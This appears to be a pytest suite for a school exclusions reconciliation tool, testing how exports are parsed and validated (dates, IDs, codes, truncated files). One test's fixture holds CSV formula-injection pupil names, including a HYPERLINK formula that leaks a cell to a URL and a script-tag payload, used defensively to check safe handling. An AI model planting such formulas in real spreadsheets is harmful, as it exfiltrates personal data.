"""The map and validate steps on hard-case exports and hand-made rows: what is accepted, what rejected."""

from __future__ import annotations

import csv
import json
import random
from pathlib import Path

import openpyxl
import pandas as pd
import pytest

from builders import (
    compared,
    LAESTAB,
    case_file,
    copy_case,
    permanent,
    read_report,
    record,
    run_cli,
    write_config,
    write_portal_csv,
    write_portal_json,
    write_sims_csv,
)
from sync_agent.codelists import reason_codes
from sync_agent.mapping import load_mapping
from sync_agent.pipeline import LoadedInput, load_input

DAYFIRST = "04-dayfirst-ambiguous-dates"
ADNO = "06-leading-zeros-ids"
LAX = "20-pydantic-lax-coercion"
MESSY = "22-key-whitespace-case-invisible"
PARTIAL = "28-partial-or-empty-input"


def load(path: Path, mapping: str = "sims-csv") -> LoadedInput:
    loaded_mapping = load_mapping(mapping, path.parent)
    kind = "portal" if loaded_mapping.kind == "portal" else "exclusions"
    return load_input(path, kind, loaded_mapping, laestab=LAESTAB, settle_seconds=0, reasons=reason_codes())


def records_of(loaded: LoadedInput) -> pd.DataFrame:
    assert loaded.validated is not None
    return loaded.validated.records


def rejects_of(loaded: LoadedInput) -> list[dict]:
    assert loaded.validated is not None
    return loaded.validated.rejects.to_dict("records")


def starts_by_upn(records: pd.DataFrame) -> dict[str, str]:
    return dict(zip(records["upn"], records["start_date"].dt.strftime("%Y-%m-%d")))


def load_rows(tmp_path: Path, *rows: dict[str, str]) -> LoadedInput:
    return load(write_sims_csv(tmp_path / "exclusions.csv", list(rows)))


def messages_for(loaded: LoadedInput, line: int) -> list[str]:
    return [r["message"] for r in rejects_of(loaded) if r["line"] == line]


# --- day-first dates ------------------------------------------------------------------------------


def test_dayfirst_dates_parsed_strictly() -> None:
    loaded = load(case_file(DAYFIRST, "exclusions_mixed_dates.csv"))

    starts = starts_by_upn(records_of(loaded))
    assert starts == {"D801999924001": "2024-03-04", "T801999924002": "2024-03-13", "G801999924003": "2024-05-02"}
    ends = dict(zip(records_of(loaded)["upn"], records_of(loaded)["end_date"].dt.strftime("%Y-%m-%d")))
    assert ends["D801999924001"] == "2024-03-05"


def test_dayfirst_rejects_name_line_column_value() -> None:
    path = case_file(DAYFIRST, "exclusions_mixed_dates.csv")

    rejects = [r for r in rejects_of(load(path)) if r["field"] == "Start Date"]

    assert [(r["line"], r["value"]) for r in rejects] == [(2, "06/13/2024"), (6, "31/04/2024")]
    for reject in rejects:
        assert reject["file"] == str(path)
        assert reject["message"] == "Start Date is not a valid date in the form dd/mm/yyyy"


def test_dayfirst_row_order_irrelevant(tmp_path: Path) -> None:
    original = case_file(DAYFIRST, "exclusions_mixed_dates.csv")
    header, *rows = original.read_bytes().split(b"\r\n")
    rows = [r for r in rows if r]
    shuffled = rows[::-1]
    random.Random(7).shuffle(shuffled)
    copy = tmp_path / "shuffled.csv"
    copy.write_bytes(b"\r\n".join([header, *shuffled]) + b"\r\n")

    assert starts_by_upn(records_of(load(copy))) == starts_by_upn(records_of(load(original)))
    assert sorted(r["value"] for r in rejects_of(load(copy)) if r["field"] == "Start Date") == [
        "06/13/2024", "31/04/2024"]


# --- identifiers kept as text ---------------------------------------------------------------------


def test_adno_kept_with_zeros() -> None:
    loaded = load(case_file(ADNO, "exclusions_with_adno.csv"))

    assert records_of(loaded)["extra:Adno"].tolist() == ["000123", "004567", "010000"]
    assert rejects_of(loaded) == []


def test_adno_in_every_report(tmp_path: Path) -> None:
    copy_case(ADNO, "exclusions_with_adno.csv", tmp_path, "exclusions.csv")
    write_portal_csv(tmp_path / "portal.csv", [
        record(),
        record(upn="T801999924002", surname="Okafor-Reid", forename="Tamsin", dob="03/09/2011",
               start="12/03/2024", start_session="PM", end="13/03/2024", sessions="3", reason_1="VA", reason_2="PP"),
    ])
    write_config(tmp_path)

    assert run_cli(tmp_path) == 1

    [finding] = compared(read_report(tmp_path)["findings"])
    assert finding["kind"] == "missing_on_portal"
    assert finding["extra"] == {"Adno": "010000"}
    out = tmp_path / "out"
    with (out / "reconciliation.csv").open(encoding="utf-8-sig", newline="") as handle:
        rows = list(csv.DictReader(handle))
    assert rows[0]["extra"] == "Adno: 010000"
    book = openpyxl.load_workbook(out / "reconciliation.xlsx")
    cells = [c for sheet in book.worksheets for row in sheet.iter_rows() for c in row if c.value == "Adno: 010000"]
    assert len(cells) == 1
    assert cells[0].data_type == "s"
    assert "010000" in (out / "reconciliation.html").read_text(encoding="utf-8")


# --- numbers that look like dates or counts -------------------------------------------------------


def test_lax_csv_clean_row_accepted() -> None:
    records = records_of(load(case_file(LAX, "exclusions_numeric_lookalikes.csv")))

    assert starts_by_upn(records) == {"D801999924001": "2024-03-04", "G801999924003": "2024-04-16"}


def test_lax_csv_zero_end_date_rejected() -> None:
    loaded = load(case_file(LAX, "exclusions_numeric_lookalikes.csv"))

    rejects = [r for r in rejects_of(loaded) if r["line"] == 3]
    assert rejects
    assert all(r["field"] == "End Date" and r["value"] == "0" for r in rejects)
    assert any(m.startswith("End Date is 0, which is not a date; leave it blank") for m in [r["message"] for r in rejects])


def test_lax_csv_unix_seconds_rejected() -> None:
    [reject] = [r for r in rejects_of(load(case_file(LAX, "exclusions_numeric_lookalikes.csv"))) if r["line"] == 4]

    assert reject["field"] == "Start Date"
    assert reject["value"] == "1710201600"
    assert "dd/mm/yyyy" in reject["message"]


def test_lax_csv_sessions_policy() -> None:
    loaded = load(case_file(LAX, "exclusions_numeric_lookalikes.csv"))

    sessions = dict(zip(records_of(loaded)["upn"], records_of(loaded)["sessions"]))
    assert sessions["G801999924003"] == 2
    [reject] = [r for r in rejects_of(loaded) if r["line"] == 6]
    assert (reject["field"], reject["value"]) == ("Sessions", "1.5")


def test_lax_portal_json_types_rejected() -> None:
    loaded = load(case_file(LAX, "portal_export_lax.json"), "portal-json")

    rejected = {(r["field"], r["value"]) for r in rejects_of(loaded)}
    assert ("start_date", "1710201600") in rejected
    assert ("end_date", "0") in rejected
    assert ("sessions", "true") in rejected
    assert records_of(loaded)["portal_id"].tolist() == ["EX-1"]


def test_lax_portal_adno_as_text() -> None:
    from sync_agent.connectors.portal_json import read_portal_json

    table = read_portal_json(case_file(LAX, "portal_export_lax.json"))

    assert table.frame["adno"].tolist() == ["123", "10000", "004567"]
    assert records_of(load(case_file(LAX, "portal_export_lax.json"), "portal-json"))["extra:adno"].tolist() == ["123"]


def test_lax_inputs_no_epoch_dates(tmp_path: Path) -> None:
    copy_case(LAX, "exclusions_numeric_lookalikes.csv", tmp_path, "exclusions.csv")
    copy_case(LAX, "portal_export_lax.json", tmp_path, "portal.json")
    write_config(tmp_path, portal="portal.json", portal_mapping="portal-json")

    assert run_cli(tmp_path) == 1

    for path in (tmp_path / "out").iterdir():
        if path.suffix == ".xlsx":
            book = openpyxl.load_workbook(path)
            text = " ".join(str(c.value) for s in book.worksheets for row in s.iter_rows() for c in row)
        else:
            text = path.read_text(encoding="utf-8-sig")
        assert "1970" not in text, path.name


# --- keys with stray whitespace, case and invisible characters ------------------------------------


def test_messy_keys_four_records() -> None:
    path = case_file(MESSY, "mis_exclusions_messy_keys.csv")
    loaded = load(path)

    records = records_of(loaded)
    assert sorted(records["upn"]) == ["D801999924001", "G801999924003", "K801999924005", "T801999924002"]
    assert set(records["category"]) == {"suspension", "permanent"}
    assert records["reason_1"].tolist() == ["DB", "VA", "PA", "BU"]
    assert records["start_session"].tolist() == ["AM", "PM", "AM", "AM"]
    [reject] = rejects_of(loaded)
    assert reject["line"] == 6
    assert reject["file"] == str(path)
    assert reject["message"] == "UPN A801999924004 fails the DfE check letter (expected W)"


def test_messy_keys_names_unaltered() -> None:
    records = records_of(load(case_file(MESSY, "mis_exclusions_messy_keys.csv")))

    assert records["surname"].tolist() == ["Ashworth", "Okafor-Reid", "Halloway", "O'Rourke"]


def test_messy_keys_all_match_portal(tmp_path: Path) -> None:
    copy_case(MESSY, "mis_exclusions_messy_keys.csv", tmp_path, "exclusions.csv")
    copy_case(MESSY, "portal_export.json", tmp_path, "portal.json")
    write_config(tmp_path, portal="portal.json", portal_mapping="portal-json")

    assert run_cli(tmp_path) == 1

    report = read_report(tmp_path)
    assert compared(report["findings"]) == []
    assert [i["records"] for i in report["inputs"]] == [4, 4]
    assert [i["rejects"] for i in report["inputs"]] == [1, 0]


# --- names a spreadsheet would run --------------------------------------------------------------


def test_hostile_names_accepted_exactly(tmp_path: Path) -> None:
    copy_case("19-csv-formula-injection", "exclusions_hostile_names.csv", tmp_path, "exclusions.csv")
    write_portal_csv(tmp_path / "portal.csv", [])
    write_config(tmp_path)

    assert run_cli(tmp_path) == 1

    report = read_report(tmp_path)
    assert report["inputs"][0]["records"] == 7
    assert report["inputs"][0]["rejects"] == 0
    pupils = {f["upn"]: f["pupil"] for f in report["findings"] if f["kind"] == "missing_on_portal"}
    assert pupils["D801999924001"] == '=HYPERLINK("http://127.0.0.1:9/?leak="&A2,"Open record"), Milo'
    assert pupils["T801999924002"] == "Okafor-Reid, +SUM(1,1)"
    assert pupils["G801999924003"] == "@SUM(A1:A9), Niamh"
    assert pupils["W801999924004"] == "-2+3, Zoë"
    assert pupils["C801999924008"] == "\t=1+1, Siân"
    assert pupils["R801999924009"] == "D'Souza-Adeyemi, Renée"
    assert pupils["C801999924010"] == "<script>alert(1)</script>, Oscar"


# --- exports refused as a whole -------------------------------------------------------------------


def _partial_run(tmp_path: Path, name: str) -> tuple[int, dict]:
    copy_case(PARTIAL, name, tmp_path, "exclusions.csv")
    write_portal_csv(tmp_path / "portal.csv", [record(), permanent()])
    write_config(tmp_path)
    code = run_cli(tmp_path)
    return code, read_report(tmp_path)


def test_truncated_export_refused(tmp_path: Path) -> None:
    code, report = _partial_run(tmp_path, "exclusions_truncated_mid_write.csv")

    assert code == 2
    [mis] = [i for i in report["inputs"] if i["kind"] == "exclusions"]
    assert mis["status"] == "refused"
    assert "line 4" in mis["reason"]
    assert mis["records"] == 0
    assert not [f for f in report["findings"] if f["kind"] == "missing_in_mis"]


def test_zero_byte_export_refused(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    code, report = _partial_run(tmp_path, "exclusions_zero_bytes.csv")

    assert code == 2
    [mis] = [i for i in report["inputs"] if i["kind"] == "exclusions"]
    assert mis["status"] == "refused"
    assert "empty" in mis["reason"]
    assert "empty" in capsys.readouterr().err
    assert compared(report["findings"]) == []


def test_header_only_export_means_none(tmp_path: Path) -> None:
    code, report = _partial_run(tmp_path, "exclusions_header_only.csv")

    assert code == 1
    [mis] = [i for i in report["inputs"] if i["kind"] == "exclusions"]
    assert mis["status"] == "read"
    assert mis["records"] == 0
    missing = sorted(f["upn"] for f in report["findings"] if f["kind"] == "missing_in_mis")
    assert missing == ["D801999924001", "K801999924005"]


def test_footer_mismatch_refused(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    copy_case("10-report-preamble-footer-blank-rows", "exclusions_footer_count_mismatch.csv", tmp_path,
              "exclusions.csv")
    write_portal_csv(tmp_path / "portal.csv", [record()])
    write_config(tmp_path)

    assert run_cli(tmp_path) == 2

    [mis] = [i for i in read_report(tmp_path)["inputs"] if i["kind"] == "exclusions"]
    assert mis["status"] == "refused"
    assert "states 5 records but 3 were read" in mis["reason"]
    assert "states 5 records but 3 were read" in capsys.readouterr().err


def test_report_export_footer_agrees() -> None:
    loaded = load(case_file("10-report-preamble-footer-blank-rows", "exclusions_report_export.csv"))

    assert records_of(loaded)["source_line"].tolist() == [5, 6, 7]
    assert rejects_of(loaded) == []


# --- other layouts --------------------------------------------------------------------------------


@pytest.mark.parametrize("name", ["exclusions_bom_plain.csv", "exclusions_bom_quoted.csv"])
def test_bom_header_matches_baseline(name: str) -> None:
    compared = ["upn", "surname", "forename", "date_of_birth", "category", "start_date", "start_session",
                "end_date", "end_session", "sessions", "reason_1", "reason_2"]
    baseline = records_of(load(case_file("_shared", "baseline_exclusions.csv")))[compared]

    loaded = load(case_file("01-utf8-bom-header", name))

    assert rejects_of(loaded) == []
    pd.testing.assert_frame_equal(records_of(loaded)[compared], baseline)


def test_embedded_newlines_line_numbers() -> None:
    path = case_file("12-embedded-newlines-quoted", "exclusions_with_comments.csv")
    loaded = load(path)

    records = records_of(loaded)
    assert records["upn"].tolist() == ["D801999924001", "T801999924002"]
    assert records["extra:Comments"][1] == 'Incident in canteen.\r\nWitness statements: 2\r\nPupil said "it wasn\'t me".'
    [reject] = rejects_of(loaded)
    assert (reject["line"], reject["field"], reject["value"]) == (6, "Start Date", "31/02/2024")
    assert reject["file"] == str(path)


# --- column checks on hand-made rows --------------------------------------------------------------


def test_laestab_must_be_seven_digits(tmp_path: Path) -> None:
    loaded = load_rows(tmp_path, record(LAESTAB="940200"), record(upn="T801999924002", LAESTAB="9402001"))

    assert records_of(loaded)["laestab"].tolist() == ["9402001"]
    [reject] = rejects_of(loaded)
    assert (reject["line"], reject["field"], reject["value"]) == (2, "LAESTAB", "940200")
    assert "must be 7 digits" in reject["message"]


def test_laestab_defaults_to_school(tmp_path: Path) -> None:
    assert records_of(load_rows(tmp_path, record()))["laestab"].tolist() == [LAESTAB]


def test_blank_upn_rejected(tmp_path: Path) -> None:
    loaded = load_rows(tmp_path, record(upn=" "))

    assert messages_for(loaded, 2) == ["UPN is blank; every record needs the pupil's UPN"]


def test_lower_case_upn_cleaned(tmp_path: Path) -> None:
    loaded = load_rows(tmp_path, record(upn=" d801999924001\u200b"))

    assert records_of(loaded)["upn"].tolist() == ["D801999924001"]


def test_temporary_upn_flagged(tmp_path: Path) -> None:
    records = records_of(load_rows(tmp_path, record(upn="V94040011200A")))

    assert records["upn_temporary"].tolist() == [True]


def test_reason_3_without_reason_2(tmp_path: Path) -> None:
    loaded = load_rows(tmp_path, record(reason_3="VA"))

    assert messages_for(loaded, 2) == ["Reason 3 is set but Reason 2 is blank; move it to Reason 2"]


def test_same_reason_twice(tmp_path: Path) -> None:
    loaded = load_rows(tmp_path, record(reason_2="db"))

    assert messages_for(loaded, 2) == ["the same reason is given twice; give each reason once"]


def test_permanent_with_end_date(tmp_path: Path) -> None:
    loaded = load_rows(tmp_path, permanent(end="06/02/2024"))

    [message] = messages_for(loaded, 2)
    assert "End Date is set on a permanent exclusion" in message


def test_end_before_start(tmp_path: Path) -> None:
    loaded = load_rows(tmp_path, record(end="01/03/2024"))

    assert messages_for(loaded, 2) == ["End Date is before the start date"]


def test_same_day_pm_to_am(tmp_path: Path) -> None:
    loaded = load_rows(tmp_path, record(start_session="PM", end="04/03/2024", end_session="AM", sessions="1"))

    assert messages_for(loaded, 2) == ["the exclusion ends in the AM session of the day it starts in the PM"]


def test_suspension_without_sessions(tmp_path: Path) -> None:
    loaded = load_rows(tmp_path, record(sessions=""))

    [message] = messages_for(loaded, 2)
    assert message.startswith("Sessions is blank; a suspension or lunchtime exclusion needs its number of sessions")


def test_unmapped_category_names_table(tmp_path: Path) -> None:
    loaded = load_rows(tmp_path, record(category="Internal"))

    [reject] = rejects_of(loaded)
    assert reject["field"] == "Exclusion Type"
    assert reject["value"] == "Internal"
    assert "'Internal'" in reject["message"]
    assert "table 'category' of built-in mapping sims-csv" in reject["message"]
    assert "[tables.category]" in reject["message"]


def test_custom_mapping_names_its_file(tmp_path: Path) -> None:
    mapping = tmp_path / "school.toml"
    built_in = Path(load_mapping("sims-csv").spec.mapping.name)
    text = (Path(__file__).resolve().parents[1] / "mappings" / f"{built_in}.toml").read_text(encoding="utf-8")
    mapping.write_text(text + '\n[tables.reason]\nDB = ["PD"]\n', encoding="utf-8")
    path = write_sims_csv(tmp_path / "exclusions.csv", [record(category="Internal"), record(upn="T801999924002",
                                                                                            reason_1="PD")])

    loaded = load(path, str(mapping))

    [reject] = rejects_of(loaded)
    assert f"of {mapping}" in reject["message"]
    assert "in that file" in reject["message"]
    assert records_of(loaded)["reason_1"].tolist() == ["DB"]


def test_pd_reason_never_guessed(tmp_path: Path) -> None:
    loaded = load_rows(tmp_path, record(reason_1="PD"))

    [reject] = rejects_of(loaded)
    assert (reject["field"], reject["value"]) == ("Reason", "PD")
    assert "table 'reason'" in reject["message"]


@pytest.mark.parametrize("label", ["Fixed Term", "SUSP", "FIXD", "Fixed Period", "suspension"])
def test_suspension_labels_and_codes(tmp_path: Path, label: str) -> None:
    records = records_of(load_rows(tmp_path, record(category=label)))

    assert records["category"].tolist() == ["suspension"]


def test_reason_labels_become_codes(tmp_path: Path) -> None:
    loaded = load_rows(tmp_path, record(reason_1="Damage to property",
                                        reason_2="Persistent or general disruptive behaviour"))

    assert records_of(loaded)[["reason_1", "reason_2"]].values.tolist() == [["DM", "DB"]]


def test_ot_after_2020_rejected(tmp_path: Path) -> None:
    loaded = load_rows(tmp_path, record(reason_1="OT"))

    [message] = messages_for(loaded, 2)
    assert "reason OT is not valid for exclusions starting on or after 2020-09-01" in message


def test_ot_before_2020_accepted(tmp_path: Path) -> None:
    loaded = load_rows(tmp_path, record(start="07/10/2019", end="08/10/2019", reason_1="Other"))

    assert records_of(loaded)["reason_1"].tolist() == ["OT"]


def test_portal_json_builder_round_trip(tmp_path: Path) -> None:
    path = write_portal_json(tmp_path / "portal.json", [record(), permanent()])

    loaded = load(path, "portal-json")

    assert rejects_of(loaded) == []
    assert records_of(loaded)["category"].tolist() == ["suspension", "permanent"]
    assert json.loads(path.read_text(encoding="utf-8"))["items"][1]["sessions"] is None


def test_runaway_value_shortened_in_rejects(tmp_path: Path) -> None:
    path = tmp_path / "exclusions.csv"
    write_sims_csv(path, [record(start="9" * 100_000), record()])

    [reject] = rejects_of(load(path))

    assert reject["field"] == "Start Date"
    assert reject["value"] == "9" * 200 + "… (100,000 characters in all)"
    assert len(records_of(load(path))) == 1
